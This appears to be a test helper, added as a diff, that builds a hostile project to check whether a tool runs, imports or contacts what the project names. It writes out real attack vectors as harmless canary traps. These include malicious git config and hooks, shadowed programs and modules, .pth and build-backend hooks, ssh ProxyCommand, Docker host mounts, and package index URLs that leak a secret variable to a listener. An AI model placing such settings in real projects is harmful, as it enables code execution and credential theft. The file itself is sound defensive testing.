@@ -1,0 +1,299 @@
+"""A hostile project: a trap in every place of it that could be executed, read or sent.
+
+A trap that fires leaves a file with its name in a folder outside the project. Three kinds of places are meant:
+what is executed (modules, programs, settings of git and of shells, interpreters, build scripts), what is sent (names of
+the user's variables in addresses), and who is contacted (machines and indexes that the project names).
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from importlib.metadata import packages_distributions
+from pathlib import Path
+from typing import Any
+
+SECRET_NAME, SECRET = "CANARY_SECRET", "the-value-of-a-secret-of-this-user"
+
+# Whatever mlw, or a library that it uses, could import by mistake from the folder of a project.
+_ODD_MODULES = "conftest evil_plugin matplotlib mlworkbench noxfile setup sitecustomize usercustomize uvloop __main__"
+MODULES = sorted({*sys.stdlib_module_names, *packages_distributions(), *_ODD_MODULES.split()})
+# Whatever mlw, or a program that it starts, could look for on PATH.
+PROGRAMS = (
+    "bash basename cat conda curl dircolors dirname docker docker-credential-x fish git git-remote-http hostname id ip"
+    " java keyring less lesspipe loginctl ls lscpu mlw nvidia-container-cli nvidia-ctk nvidia-smi pager pip podman ps"
+    " pyenv python python2 python3 rsync sed sh spark-submit ssh ssh-add ssh-agent ssh-keygen ssh-keyscan stty sysctl"
+    " tput tty uname uv which xdg-open xterm yarn zsh"
+).split()
+FOLDERS = (".", "bin", ".venv/bin", "node_modules/.bin", "evil")  # of programs
+# Relative ones, as careless people have them; with them a shell finds the project's programs first.
+CARELESS_PATH = os.pathsep.join((".", "", "bin", "./.venv/bin", "node_modules/.bin"))
+
+
+class Canary:
+    """The traps of one project."""
+
+    def __init__(self, root: Path, place: Path, address: str) -> None:
+        self.root, self.place, self.address = root, place, address
+        self.scripts: dict[str, Path] = {}  # name → a program that fires it
+        self.modules: dict[str, Path] = {}
+        place.mkdir()
+
+    def fired(self) -> list[str]:
+        return sorted(path.name for path in self.place.iterdir())
+
+    def reset(self) -> None:
+        for path in self.place.iterdir():
+            path.unlink()
+
+    def fire(self, name: str) -> None:
+        (self.place / name).touch()
+
+    # -- what traps are made of ------------------------------------------------------------------------
+
+    def write(self, path: str, text: str) -> Path:
+        place = self.root / path
+        place.parent.mkdir(parents=True, exist_ok=True)
+        place.write_text(text)
+        return place
+
+    def program(self, path: str, name: str, then: str = "exit 1") -> Path:
+        """A program of the project; nothing but its own shell is needed to fire it."""
+        place = self.write(path, f'#!/bin/sh\n: > "{self.place}/{name}"\n{then}\n')
+        place.chmod(0o755)
+        self.scripts[name] = place
+        return place
+
+    def module(self, path: str, name: str) -> Path:
+        """A module; it imports nothing, so it fires whatever else is broken by then."""
+        self.modules[name] = self.write(path, f'open("{self.place}/{name}", "w").close()\n')
+        return self.modules[name]
+
+
+def lay(root: Path, place: Path, address: str) -> Canary:
+    """Fill the project with traps. ``address``: HOST:PORT of a listener that stands for everybody it names."""
+    canary = Canary(root, place, address)
+    for name in MODULES:
+        canary.module(f"{name}.py", f"module-{name}")
+    for name in ("mlworkbench", "mlworkbench/cli", "click", "yaml"):  # packages, one folder below
+        canary.module(f"src/{name}/__init__.py", f"package-{name.replace('/', '.')}")
+    for folder in FOLDERS:
+        for name in PROGRAMS:
+            canary.program(f"{folder}/{name}", f"program-{folder.replace('/', '-')}-{name}")
+    _plugins(canary)
+    _git(canary)
+    _targets(canary)
+    _start_up_files(canary)
+    _python_files(canary)
+    _packages(canary)
+    return canary
+
+
+def _plugins(canary: Canary) -> None:
+    """A distribution in the folder itself, as `pip install --target .` leaves it."""
+    points = "".join(
+        f"[{group}]\n" + "".join(f"{name} = evil_plugin:{name}\n" for name in names) + "\n"
+        for group, names in {
+            "mlworkbench.targets": ("local", "docker", "remote", "remotedocker", "cluster", "evil"),
+            "mlworkbench.environments": ("existing", "given", "managed", "evil"),
+            "mlworkbench.frameworks": ("Python", "PySpark", "Evil"),
+            "keyring.backends": ("evil",),
+            "nicegui": ("evil",),
+        }.items()
+    )
+    for info in ("evil-1.0.dist-info", "evil.egg-info"):
+        canary.write(f"{info}/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+        canary.write(f"{info}/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+        canary.write(f"{info}/entry_points.txt", points)
+    canary.write("evil.pth", "import evil_plugin\n")
+
+
+def _git(canary: Canary) -> None:
+    """A real repository with a change; every setting that names a program names a trap."""
+    environ = {"PATH": "/usr/bin:/bin", "HOME": str(canary.root.parent), "GIT_CONFIG_NOSYSTEM": "1"}
+    tracked = canary.write("tracked.txt", "first\n")
+    canary.write(".gitattributes", "* filter=evil diff=evil merge=evil\n")
+    for words in (
+        ("init", "-q"),
+        ("add", "-f", "tracked.txt", ".gitattributes"),
+        ("-c", "user.name=x", "-c", "user.email=x@example.org", "commit", "-q", "-m", "first"),
+    ):
+        subprocess.run(("git", *words), cwd=canary.root, env=environ, check=True, capture_output=True)
+    tracked.write_text("second\n")
+
+    def trap(name: str) -> Path:
+        return canary.program(f".git/traps/{name}", f"git-{name}")
+
+    canary.write(
+        ".git/config",
+        "[core]\n\trepositoryformatversion = 0\n"
+        + "".join(f"\t{name} = {trap(name)}\n" for name in ("fsmonitor", "sshCommand", "pager", "editor", "askPass"))
+        + f"\thooksPath = {canary.root}/.git/hooks\n\tattributesFile = {canary.root}/.gitattributes\n"
+        + f"\tworktree = {canary.root}\n"
+        + f"[diff]\n\texternal = {trap('external-diff')}\n"
+        + f'[diff "evil"]\n\tcommand = {trap("diff-command")}\n\ttextconv = {trap("textconv")}\n'
+        + f'[filter "evil"]\n\tclean = {trap("clean")}\n\tsmudge = {trap("smudge")}\n\tprocess = {trap("process")}\n'
+        + f'[merge "evil"]\n\tdriver = {trap("merge")}\n[credential]\n\thelper = {trap("credential")}\n'
+        + f'[alias]\n\tdiff = "!{trap("alias")}"\n[gpg]\n\tprogram = {trap("gpg")}\n'
+        + f'[remote "origin"]\n\turl = ext::{trap("ext")}\n\tpromisor = true\n\tuploadpack = {trap("uploadpack")}\n'
+        + f"[include]\n\tpath = {canary.root}/.git/more\n",
+    )
+    canary.write(".git/more", f"[core]\n\tfsmonitor = {trap('included')}\n")
+    for hook in ("post-index-change", "pre-commit", "post-checkout", "fsmonitor-watchman", "reference-transaction"):
+        canary.program(f".git/hooks/{hook}", f"git-hook-{hook}")
+
+
+def _targets(canary: Canary) -> None:
+    """Interpreters, machines, images, mounts and masters that the project names."""
+    host, _, port = canary.address.partition(":")
+    python = canary.program("evil/env/bin/python", "pythonLocation", "echo 3 12 0 $0; exit 0")
+    canary.program("evil/env/bin/evilpython", "pythonLocation-by-name")
+    canary.program("evil/spark/bin/spark-submit", "sparkSubmitLocation")
+    canary.program("evil/jdk/bin/java", "JAVA_HOME")
+    canary.write("evil/env/bin/activate", f': > "{canary.place}/activate"\n')
+    mounts = f'volumes:\n  - "{os.path.expanduser("~")}:/home:rw"\n  - "/:/all:rw"\n  - "/var/run/docker.sock:/s"\n'
+    far = f"type: remote\naddress: {host}\nport: {port}\nusername: root\npythonLocation: ./evil/env/bin/python\n"
+    for name, text in {
+        "local": "type: local\npythonLocation: ./evil/env/bin/python\n",
+        "absolute": f"type: local\npythonLocation: {python}\n",
+        "named": "type: local\npythonLocation: evilpython\n",
+        "searched": "type: local\n",
+        "made": "type: local\npythonLocation: ./evil/env/bin/python\nuserManagedEnvironment: false\n",
+        "docker": f"type: docker\nbaseDockerImage: evil-image:latest\nuserManagedEnvironment: true\n{mounts}",
+        "image": "type: docker\nbaseDockerImage: evil-image:latest\nuserManagedEnvironment: false\n",
+        "shared": "type: docker\nbaseDockerImage: e\nuserManagedEnvironment: true\nnativeSharedDirectory: /\n",
+        **dict.fromkeys(("far", "leaves", "goes"), far),
+        "fardocker": f"type: remotedocker\naddress: {host}\nport: {port}\nusername: root\n{mounts}",
+        "cluster": "type: cluster\nuserManagedEnvironment: true\npythonLocation: ./evil/env/bin/python\n"
+        "sparkSubmitLocation: ./evil/spark/bin/spark-submit\nsparkMaster: local[1]\n",
+    }.items():
+        canary.write(f"aml_config/{name}.compute", text)
+    variables = (
+        f'EnvironmentVariables:\n  PATH: "{canary.root}/evil:{canary.root}/bin"\n  PYTHONPATH: "{canary.root}"\n'
+        f'  JAVA_HOME: "{canary.root}/evil/jdk"\n  SPARK_HOME: "{canary.root}/evil/spark"\n'
+        f'  LD_PRELOAD: "{canary.root}/evil/preload.so"\n  SENT: "${{{SECRET_NAME}}}"\n'
+    )
+    for name in ("local", "absolute", "named", "searched", "made", "docker", "image", "shared", "far", "cluster"):
+        framework = "PySpark" if name == "cluster" else "Python"
+        text = f"Target: {name}\nFramework: {framework}\nArgumentVector:\n  - train.py\n{variables}"
+        canary.write(f"aml_config/{name}.runconfig", text)
+    spark = f"Target: absolute\nFramework: PySpark\nArgumentVector:\n  - train.py\n{variables}"
+    canary.write("aml_config/spark.runconfig", spark)
+    plugin = "Target: searched\nFramework: Python\nEnvironmentPlugin: evil\nArgumentVector:\n  - train.py\n"
+    canary.write("aml_config/plugin.runconfig", plugin)
+
+
+def _start_up_files(canary: Canary) -> None:
+    """Of shells and tools: what some of them read in the current folder."""
+    for name in (".bashrc .bash_profile .profile .zshrc .zshenv .shrc .envrc .env .inputrc .screenrc").split():
+        canary.write(name, f': > "{canary.place}/start-up-file-{name}"\n')
+    canary.write("config.fish", f'echo > "{canary.place}/start-up-file-fish"\n')
+    canary.write("Makefile", f'all:\n\ttouch "{canary.place}/Makefile"\n')
+    canary.write(".ssh/config", f'Host *\n  ProxyCommand touch "{canary.place}/ssh-config"\n')
+    canary.write(".netrc", f"machine {canary.address.partition(':')[0]} login x password {SECRET}\n")
+    canary.write("ssh_config", f'Host *\n  ProxyCommand touch "{canary.place}/ssh-config"\n')
+
+
+def _python_files(canary: Canary) -> None:
+    """Settings of Python's tools."""
+    canary.write(".venv/pyvenv.cfg", f"home = {canary.root}/evil\ninclude-system-site-packages = true\n")
+    canary.write("pyvenv.cfg", f"home = {canary.root}/evil\n")
+    canary.write(".venv/lib/python3/site-packages/evil.pth", "import evil_plugin\n")
+    canary.write(".python-version", "../../../evil\n")
+    canary.write("keyringrc.cfg", "[backend]\ndefault-keyring=evil_plugin.Keyring\nkeyring-path=.\n")
+    canary.write("matplotlibrc", "backend: module://evil_plugin\n")
+    canary.write(".pdbrc", "import evil_plugin\n")
+    canary.write("pytest.ini", "[pytest]\naddopts = -p evil_plugin\n")
+    canary.write("mypy.ini", "[mypy]\nplugins = evil_plugin.py\n")
+    canary.write(".condarc", f"channels:\n  - http://{canary.address}/condarc\n")
+    index = f"http://{canary.address}/settings/${{{SECRET_NAME}}}/simple"
+    canary.write("pip.conf", f"[global]\nindex-url = {index}\n")
+    canary.write("uv.toml", f'index-url = "{index}"\nkeyring-provider = "subprocess"\n')
+    canary.write(
+        "pyproject.toml",
+        '[build-system]\nrequires = []\nbuild-backend = "evil_plugin"\nbackend-path = ["."]\n'
+        '[project]\nname = "evil"\ndynamic = ["version", "dependencies"]\n'
+        f'[tool.uv]\nindex-url = "{index}"\nno-build = false\n',
+    )
+    canary.write("notebook.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["import evil_plugin"]}]}))
+
+
+def _packages(canary: Canary) -> None:
+    """Packages from source, and an index whose address holds the name of a variable of the user."""
+    canary.module("sdist/setup.py", "source-package-setup")
+    build = '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n'
+    canary.write("sdist/pyproject.toml", build)
+    canary.write(
+        "aml_config/conda_dependencies.yml",
+        "name: project_environment\ndependencies:\n  - python=3.11\n  - pip:\n"
+        f"    - --index-url http://user:${{{SECRET_NAME}}}@{canary.address}/index/${{{SECRET_NAME}}}/simple\n"
+        "    - evil-package==1.0\n",
+    )
+
+
+# -- everybody that the project names --------------------------------------------------------------------
+
+
+class Listener(http.server.ThreadingHTTPServer):
+    """Answers nobody anything useful, and keeps who came and what they sent."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        self.heard: list[str] = []
+        self.contacts = 0
+        super().__init__(("127.0.0.1", 0), _Ear)
+
+    @property
+    def address(self) -> str:
+        return f"127.0.0.1:{self.server_address[1]}"
+
+    def process_request(self, request: Any, client_address: Any) -> None:
+        self.contacts += 1
+        super().process_request(request, client_address)
+
+    def secrets_heard(self) -> list[str]:
+        return [words for words in self.heard if SECRET in words]
+
+
+class _Ear(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        assert isinstance(self.server, Listener)
+        self.server.heard.append(f"{self.requestline}\n{self.headers}")
+        self.send_error(404)
+
+    do_POST = do_HEAD = do_PUT = do_GET
+
+    def log_message(self, format: str, *args: Any) -> None:
+        """Nobody reads it."""
+
+
+@contextmanager
+def listener() -> Iterator[Listener]:
+    with Listener() as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+# An engine outside the project: it says what a sound one would say, and fires if it is to run anything.
+ENGINE = """#!/bin/sh
+case "$1" in
+  info) echo '{"ServerVersion": "27.0", "OSType": "linux", "Architecture": "x86_64", "Driver": "overlay2"}' ;;
+  version) exit 1 ;;
+  image) echo '[{"Id": "sha256:0"}]' ;;
+  run|create|exec|pull|build|login|start) : > "$FIRED/engine-$1" ;;
+esac
+"""
+
+
+def engine(folder: Path, fired: Path) -> None:
+    folder.mkdir()
+    (folder / "docker").write_text(ENGINE.replace("$FIRED", str(fired)))
+    (folder / "docker").chmod(0o755)
